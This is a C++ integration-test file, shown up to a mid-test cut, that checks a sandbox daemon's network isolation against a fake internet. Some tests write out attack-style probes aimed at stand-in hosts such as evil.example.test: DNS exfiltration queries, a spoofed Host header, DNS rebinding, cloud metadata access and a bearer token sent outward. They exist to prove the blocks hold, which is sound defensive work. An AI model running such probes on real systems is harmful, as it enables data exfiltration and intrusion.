// Sandbox networking end to end (docs/networking.md): a real spaced with a fake internet
// the test makes — a network namespace holding TEST-NET addresses (203.0.113.0/24 behind
// 198.51.100.0/24), dnsmasq as the upstream resolver, and HTTP, TLS, banner and UDP servers
// that log every connection — so "blocked" means that no byte reached the server, not only
// that the client failed. Clients run inside the sandbox (busybox) and, for TLS, in the
// sandbox's network namespace (the host's curl), which is the same data path.
#include <fcntl.h>
#include <sched.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <poll.h>
#include <unistd.h>

#include <fstream>
#include <regex>
#include <sstream>
#include <thread>

#include "net/dns.h"
#include "net/net.h"
#include "tests/integration/fakenet.h"
#include "tests/integration/harness.h"

namespace space::testing {
namespace {

using namespace std::chrono_literals;

class NetworkTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    std::string why;
    if (!CanRunSandboxes(&why)) return;
    if (!Have("nft") || !Have("dnsmasq") || !Have("openssl") || !Have("curl")) {
      skip_ = "needs nft, dnsmasq, openssl and curl (make deps)";
      return;
    }
    setup_error_ = StartNetworkSuite({"--sandbox-subnet", "10.214.0.0/24", "--egress-preset",
                                      "fake=api.example.test,*.cdn.example.test"},
                                     daemon_, net_, tmp_);
  }
  // Whatever spaced left would be a bug; the checks are in HygieneAfterDeleteAndCrash.
  static void TearDownTestSuite() { StopNetworkSuite(daemon_, net_, tmp_); }
  void SetUp() override {
    SPACE_REQUIRE_SANDBOXES();
    if (!skip_.empty()) GTEST_SKIP() << skip_;
    ASSERT_TRUE(setup_error_.empty()) << setup_error_;
    ASSERT_NE(daemon_, nullptr);
  }
  client::Client& c() { return daemon_->client(); }
  std::string tag() const { return net::TagForDataDir(*sys::RealPath(daemon_->data_dir())); }

  std::string Create(const Json& network) {
    std::string id = CreateSandbox(c(), {{"network", network}});
    return id;
  }
  client::Client::RunOutput Run(const std::string& id, const std::string& cmd) {
    auto r = c().Run(id, Json{{"cmd", cmd}});
    EXPECT_TRUE(r) << (r ? "" : r.error().message);
    return r ? *r : client::Client::RunOutput{};
  }
  // Runs a host program inside the sandbox's network namespace.
  std::string InNetns(const std::string& id, const std::string& cmd, int* code = nullptr) {
    return Sh("ip netns exec space-" + tag() + "-" + id + " " + cmd, code);
  }
  void Delete(const std::string& id) { (void)c().DeleteSandboxAndWait(id, 30s); }
  // busybox's nc has no UDP: a UDP round trip from the sandbox's namespace.
  std::string UdpPing(const std::string& id, const std::string& ip) {
    return InNetns(id, "/usr/bin/python3 -c \"import socket; s = socket.socket(socket.AF_INET, "
                       "socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'ping', ('" + ip + "', 7)); "
                       "print(s.recv(100).decode())\" 2>&1");
  }

  static inline Daemon* daemon_ = nullptr;
  static inline FakeNet* net_ = nullptr;
  static inline sys::TempDir* tmp_ = nullptr;
  static inline std::string skip_, setup_error_;
};

// The transparent path: no proxy variables (busybox wget would honour them).
const std::string kNoProxy = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY; ";

TEST_F(NetworkTest, DefaultIsLoopbackOnly) {
  std::string id = CreateSandbox(c());
  ASSERT_FALSE(id.empty());
  int before = net_->Count("203.0.113.10:80");
  auto r = Run(id, "nc -w 2 203.0.113.10 80 </dev/null; echo rc=$?; ip -o link 2>/dev/null | wc -l; cat /proc/net/dev | tail -n +3 | wc -l");
  EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out << r.err;
  EXPECT_EQ(net_->Count("203.0.113.10:80"), before);
  auto sb = c().GetSandbox(id);
  ASSERT_TRUE(sb);
  EXPECT_EQ((*sb)["network"]["mode"], "none");
  Delete(id);
}

TEST_F(NetworkTest, InternetReachesPublicAddresses) {
  std::string id = Create({{"mode", "internet"}});
  ASSERT_FALSE(id.empty());
  auto sb = c().GetSandbox(id);
  ASSERT_TRUE(sb);
  EXPECT_EQ((*sb)["network"]["mode"], "internet");
  EXPECT_EQ((*sb)["network"]["allow_out"], Json::array());
  EXPECT_EQ((*sb)["network"]["deny_out"], Json::array());
  // Transparent: plain HTTP by address.
  auto r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/transparent");
  EXPECT_NE(r.out.find("\"server\": \"203.0.113.10:80\""), std::string::npos) << r.out << r.err;
  // By name: the sandbox's resolver is spaced's forwarder, upstream the fake dnsmasq.
  r = Run(id, kNoProxy + "wget -q -O - http://api.example.test/byname");
  EXPECT_NE(r.out.find("GET /byname"), std::string::npos) << r.out << r.err;
  // Through the explicit proxy the environment names (busybox wget honours http_proxy).
  r = Run(id, "echo $http_proxy; wget -q -O - http://api.example.test/explicit");
  EXPECT_NE(r.out.find(":3128"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("GET /explicit"), std::string::npos) << r.out << r.err;
  // A server-first protocol on another port (like SSH) works: that port is not peeked.
  r = Run(id, "echo hello | nc -w 3 203.0.113.10 2222");
  EXPECT_NE(r.out.find("SSH-2.0-fakenet"), std::string::npos) << r.out << r.err;
  // UDP by address.
  std::string udp = UdpPing(id, "203.0.113.10");
  EXPECT_NE(udp.find("echo:ping"), std::string::npos) << udp;
  // TLS is spliced (not intercepted): the client sees the server's own certificate.
  std::string out = InNetns(id, "curl -sS --max-time 10 --cacert " + net_->ca() +
                                    " --resolve api.example.test:443:203.0.113.10 https://api.example.test/tls");
  EXPECT_NE(out.find("\"sni\": \"api.example.test\""), std::string::npos) << out;
  // The decisions are visible.
  auto n = c().Call("GET", "/v1/sandboxes/" + id + "/network");
  ASSERT_TRUE(n);
  EXPECT_GE((*n)["decisions"].size(), 3u) << n->dump();
  EXPECT_NE(n->dump().find("\"verdict\":\"allow\""), std::string::npos);
  Delete(id);
}

TEST_F(NetworkTest, DenyAndAllowCidrs) {
  std::string id = Create({{"mode", "internet"}, {"deny_out", {"203.0.113.66/32"}}});
  ASSERT_FALSE(id.empty());
  int before = net_->Count("203.0.113.66:80");
  auto r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.66/denied; echo rc=$?");
  EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out << r.err;
  int udp_before = net_->Count("203.0.113.10:7", "udp");
  std::string udp = UdpPing(id, "203.0.113.10");
  EXPECT_NE(udp.find("echo:ping"), std::string::npos) << udp;
  EXPECT_EQ(net_->Count("203.0.113.10:7", "udp"), udp_before + 1);
  int udp_denied = net_->Count("203.0.113.66:7", "udp");
  udp = UdpPing(id, "203.0.113.66");
  EXPECT_EQ(udp.find("echo:"), std::string::npos) << udp;
  EXPECT_EQ(net_->Count("203.0.113.66:7", "udp"), udp_denied) << "a datagram reached the denied server";
  EXPECT_EQ(net_->Count("203.0.113.66:80"), before) << "a byte reached the denied server";
  r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/ok");
  EXPECT_NE(r.out.find("GET /ok"), std::string::npos) << r.out << r.err;
  // The explicit proxy says why.
  r = Run(id, "wget -O - http://203.0.113.66/why 2>&1");
  EXPECT_NE(r.out.find("403"), std::string::npos) << r.out;
  Delete(id);

  // allow_out beats deny_out; with an allow list only it is reachable.
  id = Create({{"allow_out", {"203.0.113.10/32"}}, {"deny_out", {"0.0.0.0/0"}}});
  ASSERT_FALSE(id.empty());
  r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/allowed");
  EXPECT_NE(r.out.find("GET /allowed"), std::string::npos) << r.out << r.err;
  udp = UdpPing(id, "203.0.113.10");
  EXPECT_NE(udp.find("echo:ping"), std::string::npos) << udp;
  before = net_->Count("203.0.113.66:80");
  r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.66/no; echo rc=$?");
  EXPECT_NE(r.out.find("rc=1"), std::string::npos);
  EXPECT_EQ(net_->Count("203.0.113.66:80"), before);
  Delete(id);
}

TEST_F(NetworkTest, AlwaysDeniedHoldsUnderAllowAll) {
  std::string a = Create({{"mode", "internet"}});
  std::string b = Create({{"mode", "internet"}});
  ASSERT_FALSE(a.empty());
  ASSERT_FALSE(b.empty());
  auto sb = c().GetSandbox(b);
  ASSERT_TRUE(sb);
  std::string other_ip = (*sb)["network"]["sandbox_ip"];
  ASSERT_FALSE(other_ip.empty());
  // b listens; a must not reach it, nor the host's own addresses, nor private ranges.
  auto bg = c().StartCommand(b, {{"cmd", "nc -l -p 8080 -e echo hi-from-b"}});
  ASSERT_TRUE(bg);
  for (const std::string& dst : {other_ip + " 8080", std::string("198.51.100.1 80"),
                                 std::string("10.0.0.5 80"), std::string("169.254.169.254 80"),
                                 std::string("127.0.0.1 7070")}) {
    auto r = Run(a, "nc -w 2 " + dst + " </dev/null; echo rc=$?");
    EXPECT_EQ(r.out.find("hi-from-b"), std::string::npos) << dst;
  }
  auto r = Run(a, kNoProxy + "wget -q -O - http://198.51.100.1:" +
                      std::to_string(std::stoi(daemon_->url().substr(daemon_->url().rfind(':') + 1))) +
                      "/healthz; echo rc=$?");
  EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out;
  // DNS rebinding: a name that resolves into a private range is refused.
  r = Run(a, "nslookup rebind.example.test; echo rc=$?");
  EXPECT_EQ(r.out.find("10.0.0.5"), std::string::npos) << r.out;
  // IPv6 is off inside.
  r = Run(a, "cat /proc/sys/net/ipv6/conf/all/disable_ipv6 2>/dev/null || echo gone");
  EXPECT_TRUE(r.out == "1\n" || r.out == "gone\n") << r.out;
  // ... on every device, and no address of that family anywhere.
  r = Run(a, "for d in default lo eth0; do cat /proc/sys/net/ipv6/conf/$d/disable_ipv6; done 2>/dev/null; "
             "cat /proc/net/if_inet6 2>/dev/null; echo end");
  EXPECT_TRUE(r.out == "1\n1\n1\nend\n" || r.out == "end\n") << r.out;
  Delete(a);
  Delete(b);
}

TEST_F(NetworkTest, DomainAllowlistByHostSniAndDns) {
  std::string id = Create({{"allow_out", {"api.example.test"}}});
  ASSERT_FALSE(id.empty());
  auto r = Run(id, kNoProxy + "wget -q -O - http://api.example.test/name");
  EXPECT_NE(r.out.find("GET /name"), std::string::npos) << r.out << r.err;
  // Names not allowed get NXDOMAIN without a query upstream (no DNS exfiltration).
  std::string dns_before = net_->DnsLog();
  r = Run(id, "nslookup secret-data.evil.example.test; echo rc=$?");
  EXPECT_EQ(r.out.find("203.0.113.66"), std::string::npos) << r.out;
  EXPECT_EQ(net_->DnsLog().find("secret-data"), std::string::npos) << "the query reached upstream";
  // A spoofed Host header sent to the evil address reaches the allowed host instead:
  // the proxy dials the name, not the address.
  int evil = net_->Count("203.0.113.66:80"), api = net_->Count("203.0.113.10:80");
  r = Run(id, kNoProxy + "wget -q -O - --header 'Host: api.example.test' http://203.0.113.66/spoof");
  EXPECT_NE(r.out.find("\"server\": \"203.0.113.10:80\""), std::string::npos) << r.out << r.err;
  EXPECT_EQ(net_->Count("203.0.113.66:80"), evil);
  EXPECT_EQ(net_->Count("203.0.113.10:80"), api + 1);
  // An address not listed is refused even by IP; a name not listed likewise (explicit
  // proxy: a 403 with the reason).
  r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.66/ip; echo rc=$?");
  EXPECT_NE(r.out.find("rc=1"), std::string::npos);
  r = Run(id, "wget -O - http://evil.example.test/ 2>&1");
  EXPECT_NE(r.out.find("403"), std::string::npos) << r.out;
  EXPECT_EQ(net_->Count("203.0.113.66:80"), evil);
  // TLS: SNI decides, and the name is what is dialled (SNI api -> .10 even when sent to .66).
  int evil_tls = net_->Count("203.0.113.66:443");
  std::string out = InNetns(id, "curl -sS --max-time 10 --cacert " + net_->ca() +
                                    " --resolve api.example.test:443:203.0.113.66 https://api.example.test/sni");
  EXPECT_NE(out.find("\"server\": \"203.0.113.10:443\""), std::string::npos) << out;
  int code = 0;
  out = InNetns(id, "curl -sS --max-time 10 --cacert " + net_->ca() +
                        " --resolve evil.example.test:443:203.0.113.66 https://evil.example.test/", &code);
  EXPECT_NE(code, 0) << out;
  EXPECT_EQ(net_->Count("203.0.113.66:443"), evil_tls) << "a TLS byte reached the evil server";
  // AAAA answers are empty (no IPv6), and quickly.
  r = Run(id, "nslookup -type=AAAA api.example.test 2>&1; echo rc=$?");
  EXPECT_EQ(r.out.find("has AAAA"), std::string::npos) << r.out;
  // DNS over TCP (RFC 7766 framing, to whatever server): the same answers and refusals,
  // several queries on one connection, none of the refused ones upstream.
  {
    auto tmp = sys::TempDir::Create("/tmp", "space-dnstcp-");
    ASSERT_TRUE(tmp);
    const std::string script = tmp->path() + "/q.py";
    ASSERT_TRUE(sys::WriteFileAtomic(script, R"(import socket, struct, sys
def query(name, qtype=1):
    head = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    body = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return head + body + struct.pack(">HH", qtype, 1)
s = socket.create_connection((sys.argv[1], 53), timeout=10)
for name in sys.argv[2:]:
    m = query(name)
    s.sendall(struct.pack(">H", len(m)) + m)
    n = struct.unpack(">H", s.recv(2, socket.MSG_WAITALL))[0]
    r = s.recv(n, socket.MSG_WAITALL)
    rcode, answers = r[3] & 15, struct.unpack(">H", r[6:8])[0]
    print(name, rcode, socket.inet_ntoa(r[-4:]) if rcode == 0 and answers else "-", hex(struct.unpack(">H", r[0:2])[0]))
)"));
    std::string before = net_->DnsLog();
    std::string out = InNetns(id, "/usr/bin/python3 " + script +
                                      " 198.51.100.53 api.example.test tcp-secret.evil.example.test 2>&1");
    EXPECT_NE(out.find("api.example.test 0 203.0.113.10 0x4242"), std::string::npos) << out;
    EXPECT_NE(out.find("tcp-secret.evil.example.test 3 - 0x4242"), std::string::npos) << out;
    EXPECT_EQ(net_->DnsLog().find("tcp-secret"), std::string::npos) << "the query reached upstream";
  }
  Delete(id);

  // Wildcards and presets: *.cdn.example.test is below the name only.
  auto bad = c().CreateSandboxAndWait({{"network", {{"allow_out", {"not a name"}}}}}, 10s);
  ASSERT_FALSE(bad);
  EXPECT_NE(bad.error().message.find("not a name"), std::string::npos);
  id = Create({{"allow_out", {"fake"}}});
  ASSERT_FALSE(id.empty());
  r = Run(id, kNoProxy + "wget -q -O - http://api.example.test/preset");
  EXPECT_NE(r.out.find("GET /preset"), std::string::npos) << r.out << r.err;
  Delete(id);
}

TEST_F(NetworkTest, LiveUpdateCutsFlowsAndBadUpdatesChangeNothing) {
  std::string id = Create({{"mode", "internet"}});
  ASSERT_FALSE(id.empty());
  auto cmd = c().StartCommand(id, {{"cmd", kNoProxy + "wget -q -O - http://203.0.113.10/slow > /tmp/slow; echo done=$?"}});
  ASSERT_TRUE(cmd);
  std::string cid = (*cmd)["id"];
  std::this_thread::sleep_for(1500ms);
  // Bad input first: refused, nothing changes.
  auto bad = c().Call("PUT", "/v1/sandboxes/" + id + "/network", Json{{"deny_out", {"203.0.113.10/33"}}});
  ASSERT_FALSE(bad);
  EXPECT_NE(bad.error().message.find("203.0.113.10/33"), std::string::npos);
  bad = c().Call("PUT", "/v1/sandboxes/" + id + "/network", Json{{"secrets", Json::array()}});
  ASSERT_FALSE(bad);
  auto now = c().GetSandbox(id);
  EXPECT_EQ((*now)["network"]["deny_out"], Json::array());
  auto ok = c().Call("PUT", "/v1/sandboxes/" + id + "/network", Json{{"deny_out", {"203.0.113.10/32"}}});
  ASSERT_TRUE(ok) << ok.error().message;
  // The running download is cut well before its 60 s.
  auto t0 = std::chrono::steady_clock::now();
  Json done;
  while (std::chrono::steady_clock::now() - t0 < 20s) {
    auto g = c().GetCommand(id, cid);
    if (g && (*g)["state"] != "running") {
      done = *g;
      break;
    }
    std::this_thread::sleep_for(100ms);
  }
  EXPECT_FALSE(done.is_null()) << "the flow was not cut";
  auto r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/after; echo rc=$?");
  EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out;
  now = c().GetSandbox(id);
  EXPECT_EQ((*now)["network"]["deny_out"], Json::array({"203.0.113.10/32"}));
  Delete(id);
  // A sandbox created without networking cannot be given some later.
  std::string none = CreateSandbox(c());
  auto refused = c().Call("PUT", "/v1/sandboxes/" + none + "/network", Json{{"mode", "internet"}});
  ASSERT_FALSE(refused);
  Delete(none);
}

TEST_F(NetworkTest, HygieneAfterDeleteAndCrash) {
  std::string id = Create({{"mode", "internet"}});
  ASSERT_FALSE(id.empty());
  const std::string t = tag();
  EXPECT_TRUE(sys::Exists("/run/netns/space-" + t + "-" + id));
  EXPECT_NE(Sh("nft list table inet space_" + t).find("table inet"), std::string::npos);
  // kill -9 and restart: the rules come back and the sandbox still gets out.
  daemon_->Kill();
  ASSERT_TRUE(daemon_->Start());
  auto r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/after-restart");
  EXPECT_NE(r.out.find("GET /after-restart"), std::string::npos) << r.out << r.err << daemon_->Log();
  Delete(id);
  EXPECT_FALSE(sys::Exists("/run/netns/space-" + t + "-" + id));
  EXPECT_EQ(Sh("ip -o link | grep -c ' s" + t + "-' || true"), "0\n");
  int code = 0;
  Sh("nft list table inet space_" + t, &code);
  EXPECT_NE(code, 0) << "the table outlived the last networked sandbox";
}

TEST_F(NetworkTest, TemplateBuildRunStepsReachTheInternet) {
  const std::string spec = "FROM base\nRUN wget -q -O /got http://api.example.test/build-step\n";
  auto r = c().Request("POST", "/v1/templates?wait=120s",
                       Json{{"name", "netbuild"}, {"tag", "v1"}, {"spec", spec}, {"network", true}}.dump(),
                       "application/json");
  ASSERT_TRUE(r);
  ASSERT_LT(r->status, 300) << r->body;
  auto op = ParseJson(r->body);
  ASSERT_TRUE(op);
  EXPECT_EQ((*op)["operation"]["state"], "succeeded") << r->body;
  std::string id = CreateSandbox(c(), {{"template", "netbuild:v1"}});
  ASSERT_FALSE(id.empty());
  auto got = c().ReadFile(id, "/got");
  ASSERT_TRUE(got) << got.error().message;
  EXPECT_NE(got->find("GET /build-step"), std::string::npos) << *got;
  Delete(id);
  // Without network the same step fails: RUN has loopback only.
  r = c().Request("POST", "/v1/templates?wait=120s",
                  Json{{"name", "netbuild"}, {"tag", "v2"},
                       {"spec", "FROM base\nRUN wget -q -O /got http://203.0.113.10/nonet\n"}}.dump(),
                  "application/json");
  ASSERT_TRUE(r);
  auto op2 = ParseJson(r->body);
  EXPECT_GE(r->status, 400) << r->body;
  EXPECT_TRUE(op2 && op2->contains("operation") && (*op2)["operation"]["state"] == "failed") << r->body;
  EXPECT_FALSE(sys::Exists("/run/netns") && Sh("ls /run/netns | grep -c 'space-" + tag() + "-bld' || true") != "0\n");
}

TEST_F(NetworkTest, SecretsNeverEnterTheSandbox) {
  const std::string value = "s3cret-value-0123";
  std::string id = Create({{"allow_out", {"api.example.test", "evil.example.test"}},
                           {"secrets", {{{"name", "TOKEN"}, {"value", value}, {"hosts", {"api.example.test"}}}}}});
  ASSERT_FALSE(id.empty());
  auto r = Run(id, "echo $TOKEN; echo $SSL_CERT_FILE; grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt");
  ASSERT_TRUE(StartsWith(r.out, "space_secret_TOKEN_")) << r.out << r.err;
  EXPECT_EQ(r.out.find(value), std::string::npos);
  EXPECT_NE(r.out.find("/etc/ssl/certs/ca-certificates.crt"), std::string::npos) << r.out;
  std::string placeholder = r.out.substr(0, r.out.find('\n'));
  auto sb = c().GetSandbox(id);
  ASSERT_TRUE(sb);
  EXPECT_EQ(sb->dump().find(value), std::string::npos) << "the API shows the secret";
  // The sandbox's CA, as the sandbox sees it.
  auto ca = c().ReadFile(id, "/usr/local/share/ca-certificates/space-sandbox-ca.crt");
  ASSERT_TRUE(ca) << ca.error().message;
  std::string ca_file = tmp_->path() + "/sandbox-ca-" + id + ".pem";
  ASSERT_TRUE(sys::WriteFileAtomic(ca_file, *ca, 0644));
  // TLS to the secret's host: terminated with the sandbox's CA, the real value swapped in.
  std::string out = InNetns(id, "curl -sS --max-time 10 --cacert " + ca_file +
                                    " -H 'Authorization: Bearer " + placeholder +
                                    "' --resolve api.example.test:443:203.0.113.10 https://api.example.test/secret");
  EXPECT_NE(out.find("Bearer " + value), std::string::npos) << out;
  // TLS to another host: spliced (its own certificate verifies) and the placeholder arrives
  // as it was sent.
  out = InNetns(id, "curl -sS --max-time 10 --cacert " + net_->ca() + " -H 'Authorization: Bearer " +
                        placeholder + "' --resolve evil.example.test:443:203.0.113.66 https://evil.example.test/other");
  EXPECT_NE(out.find("Bearer " + placeholder), std::string::npos) << out;
  EXPECT_EQ(out.find(value), std::string::npos) << out;
  // Plain HTTP to the secret's own host: never substituted.
  r = Run(id, kNoProxy + "wget -q -O - --header \"Authorization: Bearer $TOKEN\" http://api.example.test/plain");
  EXPECT_NE(r.out.find("Bearer " + placeholder), std::string::npos) << r.out << r.err;
  EXPECT_EQ(r.out.find(value), std::string::npos);
  EXPECT_EQ(net_->ServerLog().find("/plain\", \"headers\": {\"host\": \"api.example.test\", \"user-agent\": \"Wget\", \"authorization\": \"Bearer " + value), std::string::npos);
  Delete(id);
}

// The gvisor runtime plugin (runsc's netstack on the namespace's veth): the same host side,
// so the same policy; checked from inside the sandbox, since the namespace's own kernel view
// no longer holds the address (runsc moved it into gVisor). Suspend (runsc checkpoint) and
// wake (restore) keep the namespace and address, across a restart of spaced too.
class GvisorNetworkTest : public NetworkTest {
 protected:
  void SetUp() override {
    NetworkTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    if (!sys::Exists("/usr/bin/runsc")) GTEST_SKIP() << "runsc is not installed (make deps)";
  }
  std::string CreateGvisor(const Json& network) {
    Json req{{"runtime", "gvisor"}};
    if (!network.is_null()) req["network"] = network;
    return CreateSandbox(c(), req);
  }
  // The allowed server answers; the denied one gets no byte; the proxy says why.
  void ExpectPolicy(const std::string& id, const std::string& what) {
    SCOPED_TRACE(what);
    int allowed = net_->Count("203.0.113.10:80");
    auto r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/" + what);
    EXPECT_NE(r.out.find("GET /" + what), std::string::npos) << r.out << r.err << daemon_->Log();
    EXPECT_EQ(net_->Count("203.0.113.10:80"), allowed + 1);
    int denied = net_->Count("203.0.113.66:80");
    r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.66/" + what + "; echo rc=$?");
    EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out << r.err;
    r = Run(id, "wget -O - http://203.0.113.66/" + what + " 2>&1");
    EXPECT_NE(r.out.find("403"), std::string::npos) << r.out;
    EXPECT_EQ(net_->Count("203.0.113.66:80"), denied) << "a byte reached the denied server";
  }
};

TEST_F(GvisorNetworkTest, InternetByPolicyAcrossSuspendAndRestart) {
  std::string id = CreateGvisor({{"mode", "internet"}, {"deny_out", {"203.0.113.66/32"}}});
  ASSERT_FALSE(id.empty()) << daemon_->Log();
  auto sb = c().GetSandbox(id);
  ASSERT_TRUE(sb);
  EXPECT_EQ((*sb)["runtime"], "gvisor");
  EXPECT_TRUE((*sb)["capabilities"].value("network", false));
  const std::string ip = (*sb)["network"].value("sandbox_ip", "");
  ASSERT_FALSE(ip.empty()) << sb->dump();
  // gVisor's kernel, holding the sandbox's address, with spaced's resolver.
  auto r = Run(id, "dmesg | head -1; ip -4 -o addr; ip route; cat /etc/resolv.conf");
  EXPECT_NE(r.out.find("gVisor"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find(ip + "/31"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.out.find("default via " + (*sb)["network"].value("gateway_ip", "?")), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("nameserver " + (*sb)["network"].value("gateway_ip", "?")), std::string::npos) << r.out;
  ExpectPolicy(id, "gvisor-first");
  // By name, through spaced's DNS forwarder.
  r = Run(id, kNoProxy + "wget -q -O - http://api.example.test/gvisor-byname");
  EXPECT_NE(r.out.find("GET /gvisor-byname"), std::string::npos) << r.out << r.err;

  if (!sys::Exists("/proc/net/nf_conntrack")) {
    // The plugin cannot see the sandbox's TCP flows: suspend is refused, nothing is lost.
    auto refused = c().TransitionAndWait(id, client::Transition::kSuspend);
    ASSERT_FALSE(refused);
    EXPECT_NE(refused.error().message.find("nf_conntrack"), std::string::npos) << refused.error().message;
    EXPECT_EQ(c().GetSandbox(id)->value("state", ""), "running");
    Delete(id);
    GTEST_SKIP() << "no /proc/net/nf_conntrack here: suspend of networked gvisor sandboxes is refused";
  }

  // An open TCP connection cannot be checkpointed by this netstack (and a failed
  // checkpoint would end the sandbox): suspend is refused, and the sandbox runs on.
  auto held = c().StartCommand(id, {{"cmd", "sleep 30 | nc 203.0.113.10 2222"}});
  ASSERT_TRUE(held) << held.error().message;
  std::this_thread::sleep_for(1s);
  EXPECT_FALSE(c().TransitionAndWait(id, client::Transition::kSuspend));
  EXPECT_EQ(c().GetSandbox(id)->value("state", ""), "running") << daemon_->Log() << Sh("tail -c 3000 " + daemon_->data_dir() + "/runtime/gvisor/logs/" + id + ".log");
  EXPECT_NE(daemon_->Log().find("TCP connection is open"), std::string::npos);
  r = Run(id, "echo still-here");
  EXPECT_EQ(r.out, "still-here\n") << r.err;
  EXPECT_TRUE(c().Signal(id, (*held)["id"].get<std::string>(), "KILL"));

  // Suspend keeps the processes (runsc checkpoint) and the namespace. It waits until the
  // sandbox's closed connections have left TIME_WAIT (up to a minute here).
  auto loop = c().StartCommand(id, {{"cmd", "i=0; while true; do i=$((i+1)); echo $i > /tmp/n; sleep 0.2; done"}});
  ASSERT_TRUE(loop) << loop.error().message;
  auto t0 = std::chrono::steady_clock::now();
  ASSERT_TRUE(c().TransitionAndWait(id, client::Transition::kSuspend)) << daemon_->Log();
  std::printf("gvisor suspend after TCP use: %.1f s\n",
              std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count());
  EXPECT_TRUE(sys::Exists("/run/netns/space-" + tag() + "-" + id));
  ASSERT_TRUE(c().TransitionAndWait(id, client::Transition::kWake)) << daemon_->Log();
  EXPECT_EQ(c().GetSandbox(id)->at("network").value("sandbox_ip", ""), ip);

  // Suspended again (no TCP since the wake: at once) across a kill -9 of spaced: the
  // namespace and slot are still its own, and the policy holds after the wake.
  t0 = std::chrono::steady_clock::now();
  ASSERT_TRUE(c().TransitionAndWait(id, client::Transition::kSuspend)) << daemon_->Log();
  std::printf("gvisor suspend without TCP: %.1f s\n",
              std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count());
  daemon_->Kill();
  ASSERT_TRUE(daemon_->Start());
  EXPECT_TRUE(sys::Exists("/run/netns/space-" + tag() + "-" + id)) << "recovery dropped a suspended sandbox's namespace";
  ASSERT_TRUE(c().TransitionAndWait(id, client::Transition::kWake)) << daemon_->Log();
  EXPECT_EQ(c().GetSandbox(id)->at("network").value("sandbox_ip", ""), ip);
  ExpectPolicy(id, "gvisor-after-restart");
  auto n1 = Run(id, "cat /tmp/n");
  std::this_thread::sleep_for(600ms);
  auto n2 = Run(id, "cat /tmp/n");
  EXPECT_GT(std::atoi(n2.out.c_str()), std::atoi(n1.out.c_str())) << "the loop did not survive";
  // Running across a kill -9 of spaced: the namespace is adopted, the rules rebuilt.
  daemon_->Kill();
  ASSERT_TRUE(daemon_->Start());
  ExpectPolicy(id, "gvisor-running-restart");

  // A live policy change reaches it like any sandbox.
  auto ok = c().Call("PUT", "/v1/sandboxes/" + id + "/network", Json{{"deny_out", {"203.0.113.0/24"}}});
  ASSERT_TRUE(ok) << ok.error().message;
  int allowed = net_->Count("203.0.113.10:80");
  r = Run(id, kNoProxy + "wget -q -O - http://203.0.113.10/now-denied; echo rc=$?");
  EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out;
  EXPECT_EQ(net_->Count("203.0.113.10:80"), allowed);

  Delete(id);
  EXPECT_FALSE(sys::Exists("/run/netns/space-" + tag() + "-" + id));
  EXPECT_EQ(Sh("ls " + daemon_->data_dir() + "/runtime/gvisor/instances"), "");
}

// Ports by URL (docs/ports.md) are served from the sandbox's address, which gVisor's
// netstack holds (as for a microVM); without network there is none to serve from.
TEST_F(GvisorNetworkTest, PortsAreServedFromTheSandboxAddress) {
  std::string id = CreateGvisor({{"mode", "internet"}});
  ASSERT_FALSE(id.empty()) << daemon_->Log();
  auto srv = c().StartCommand(id, {{"cmd", "mkdir -p /tmp/www && echo hello-from-gvisor > /tmp/www/index.html && "
                                           "exec httpd -f -p 8080 -h /tmp/www"}});
  ASSERT_TRUE(srv) << srv.error().message;
  const std::string base = daemon_->url() + "/v1/sandboxes/" + id + "/ports/";
  const std::string auth = " -H 'Authorization: Bearer " + daemon_->api_key() + "' ";
  std::string out;
  for (int i = 0; i < 50; ++i) {
    out = Sh("curl -sS --max-time 5" + auth + base + "8080/index.html 2>&1");
    if (out.find("hello-from-gvisor") != std::string::npos) break;
    std::this_thread::sleep_for(200ms);
  }
  EXPECT_NE(out.find("hello-from-gvisor"), std::string::npos) << out;
  ExpectLoopbackServiceByUrl(c(), id, base, auth);
  out = Sh("curl -sS -o /dev/null -w '%{http_code}' --max-time 10" + auth + base + "8099/");
  EXPECT_EQ(out, "502") << out;
  Delete(id);
  std::string none = CreateGvisor(nullptr);
  ASSERT_FALSE(none.empty());
  out = Sh("curl -sS --max-time 10" + auth + daemon_->url() + "/v1/sandboxes/" + none + "/ports/8080/ -w ' %{http_code}'");
  EXPECT_NE(out.find("501"), std::string::npos) << out;
  Delete(none);
}

TEST_F(GvisorNetworkTest, WithoutNetworkLoopbackOnly) {
  std::string id = CreateGvisor(nullptr);
  ASSERT_FALSE(id.empty()) << daemon_->Log();
  EXPECT_FALSE(sys::Exists("/run/netns/space-" + tag() + "-" + id));
  int before = net_->Count("203.0.113.10:80");
  auto r = Run(id, "nc -w 2 203.0.113.10 80 </dev/null; echo rc=$?; tail -n +3 /proc/net/dev | awk '{print $1}'; "
                   "wget -q -O - http://127.0.0.1:1/ 2>&1; echo lo-rc=$?");
  EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out << r.err;
